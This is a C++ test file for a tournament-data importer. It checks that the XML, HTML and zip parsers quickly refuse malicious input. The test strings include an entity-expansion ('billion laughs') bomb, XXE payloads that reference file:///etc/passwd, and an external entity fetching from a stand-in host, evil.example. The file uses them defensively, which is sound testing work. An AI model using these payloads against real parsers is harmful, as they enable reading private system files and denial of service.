// P10, P11, P12: archives, markup and texts that attack. Each is refused, and quickly.

#include <chrono>
#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "importers/html/html_tree.hpp"
#include "importers/importer.hpp"
#include "importers/xml/xml_tree.hpp"
#include "importers/zip/archive.hpp"

using namespace seiseki;

namespace {

/// The time a call takes, so that a hang is a failure and not a wait. Generous: the machine may be busy.
template <class Call>
bool within_seconds(int seconds, const Call& call) {
  const auto began = std::chrono::steady_clock::now();
  call();
  return std::chrono::steady_clock::now() - began < std::chrono::seconds{seconds};
}

std::string repeated(std::string_view text, std::size_t times) {
  std::string out;
  out.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

}  // namespace

TEST_CASE("P10: a document type is refused, whatever it declares") {
  const std::string billion =
      "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b "
      "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>";
  for (const std::string& text :
       {billion, std::string{"<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>"},
        std::string{"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"},
        std::string{"<!doctype x><x/>"}, std::string{"<x/><!DOCTYPE y>"},
        std::string{
            "<?xml version=\"1.0\"?><!-- a --><!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x\">%p;]><x/>"},
        "<!DOCTYPE x [<!ENTITY a \"" + std::string(50'000, 'a') + "\">]><x>" + repeated("&a;", 50'000) + "</x>"}) {
    CAPTURE(text.substr(0, 80));
    CHECK(within_seconds(5, [&] { CHECK_FALSE(importers::xml::parse(text, "a.xml")); }));
  }
}

TEST_CASE("P12: nesting without end is refused before it costs time") {
  CHECK(within_seconds(5, [] { CHECK_FALSE(importers::xml::parse(repeated("<a>", 500'000), "a.xml")); }));
  CHECK(within_seconds(5, [] { CHECK_FALSE(importers::html::parse(repeated("<table><tr><td>", 100'000))); }));
  CHECK(within_seconds(5, [] { CHECK_FALSE(importers::html::parse(repeated("<div>", 300'000))); }));
}

TEST_CASE("P11: bytes that only begin like an archive are refused, and claims about sizes are not believed") {
  const std::string start{"PK\x03\x04", 4};
  for (const std::string& bytes : {start, start + std::string(100, '\0'), start + std::string(100'000, '\xff'),
                                   "PK\x05\x06" + std::string(18, '\xff')}) {
    const importers::Document document{
        .name = "a.zip", .origin = {}, .bytes = bytes, .media_type = {}, .retrieved_at = {}};
    CHECK(within_seconds(5, [&] { CHECK_FALSE(importers::zip::documents_in(document)); }));
  }
}

TEST_CASE("P12: no format crashes or hangs on a megabyte of one thing") {
  const std::vector<std::string> all{std::string(1'000'000, '\0'),     std::string(1'000'000, '\n'),
                                     std::string(1'000'000, '\xff'),   repeated("001 ", 250'000),
                                     repeated("001    1\n", 100'000),  repeated("<", 1'000'000),
                                     repeated("<a ", 300'000),         repeated("\"", 1'000'000),
                                     repeated(";", 1'000'000),         "\xff\xfe" + std::string(999'999, 'a'),
                                     repeated("\xe3\x80\x80", 300'000)};
  for (const std::string& bytes : all) {
    for (const char* name : {"a.trf", "a.html", "a.xml", "a.csv", "a.xlsx", "a.TUNX"}) {
      const std::vector<importers::Document> documents{
          {.name = name, .origin = {}, .bytes = bytes, .media_type = {}, .retrieved_at = {}}};
      CHECK(within_seconds(20, [&] { static_cast<void>(importers::read_tournament(documents)); }));
    }
  }
}
